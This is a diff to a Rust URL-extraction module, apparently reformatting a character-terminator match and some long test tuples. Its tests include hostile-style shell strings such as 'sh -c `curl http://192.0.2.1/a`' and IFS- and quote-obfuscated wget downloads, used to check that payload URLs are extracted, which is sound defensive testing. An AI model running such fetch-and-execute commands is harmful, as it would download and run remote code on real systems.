@@ -137,7 +137,13 @@ fn is_terminator(char: char) -> bool {
     match char {
         '\0'..=' ' | '"' | '\'' | '<' | '>' | '\\' | '^' | '`' | '{' | '}' | '|' | '\x7f' => true,
         '!'..='~' => false,
-        '\u{80}'..='\u{bf}' | '\u{2000}'..='\u{206f}' | '\u{3000}'..='\u{303f}' | '\u{ff00}'..='\u{ff0f}' | '；' | '？' | '\u{fff0}'..='\u{ffff}' => true,
+        '\u{80}'..='\u{bf}'
+        | '\u{2000}'..='\u{206f}'
+        | '\u{3000}'..='\u{303f}'
+        | '\u{ff00}'..='\u{ff0f}'
+        | '；'
+        | '？'
+        | '\u{fff0}'..='\u{ffff}' => true,
         _ => false,
     }
 }
@@ -411,7 +417,11 @@ mod tests {
                 (Other, "http://[2001:db8::1]:80/x", &["http://[2001:db8::1]:80/x"]),
                 (Other, "http://[fe80::1%25eth0]/x", &["http://[fe80::1%25eth0]/x"]),
                 (Other, "http://2001:DB8:0:0:0:0:0:1/x", &["http://2001:db8:0:0:0:0:0:1/x"]),
-                (Other, "http://0x7f000001/ http://2130706433/ http://0177.0.0.1/", &["http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/"]),
+                (
+                    Other,
+                    "http://0x7f000001/ http://2130706433/ http://0177.0.0.1/",
+                    &["http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/"],
+                ),
                 (Other, "http://1.2.3.4.5/ http://999.1.1.1/ http://1.2/ http://7/", &[]),
                 (Other, "http:// http:/// http://. http://-/ http://.com/", &[]),
                 (Other, "http://$IP/x http://${HOST}/y http://%s/z http://<ip>/w", &[]),
@@ -424,7 +434,11 @@ mod tests {
                 (Other, "http://google.com@evil.com/x", &["http://google.com@evil.com/x"]),
                 // the edges
                 (Other, "see http://example.com/a.", &["http://example.com/a"]),
-                (Other, "http://example.com/a, http://example.com/b; http://example.com/c!", &["http://example.com/a", "http://example.com/b", "http://example.com/c"]),
+                (
+                    Other,
+                    "http://example.com/a, http://example.com/b; http://example.com/c!",
+                    &["http://example.com/a", "http://example.com/b", "http://example.com/c"],
+                ),
                 (Other, "(http://example.com/a)", &["http://example.com/a"]),
                 (Other, "http://example.com/a_(b)", &["http://example.com/a_(b)"]),
                 (Other, "(see http://example.com/a_(b))", &["http://example.com/a_(b)"]),
@@ -475,7 +489,11 @@ mod tests {
                 (Command, "curl http://192.0.2.1/?a=1&b=2 &", &["http://192.0.2.1/?a=1&b=2"]),
                 (Command, "curl \"http://192.0.2.1/a;b?c=1&d=2\"", &["http://192.0.2.1/a;b?c=1&d=2"]),
                 (Command, "sh -c `curl http://192.0.2.1/a`", &["http://192.0.2.1/a"]),
-                (Command, "wget http://192.0.2.1/bins/${arch} http://192.0.2.1/{a,b}", &["http://192.0.2.1/bins/${arch}", "http://192.0.2.1/{a,b}"]),
+                (
+                    Command,
+                    "wget http://192.0.2.1/bins/${arch} http://192.0.2.1/{a,b}",
+                    &["http://192.0.2.1/bins/${arch}", "http://192.0.2.1/{a,b}"],
+                ),
                 (Command, "wget${IFS}http://192.0.2.1/a${IFS}-O$IFS-", &["http://192.0.2.1/a"]),
                 (Command, "wget ht''tp://192.0.2.1/a", &["http://192.0.2.1/a"]),
                 (Command, "wget http://192.0.2.1/\\\nabc", &["http://192.0.2.1/abc"]),
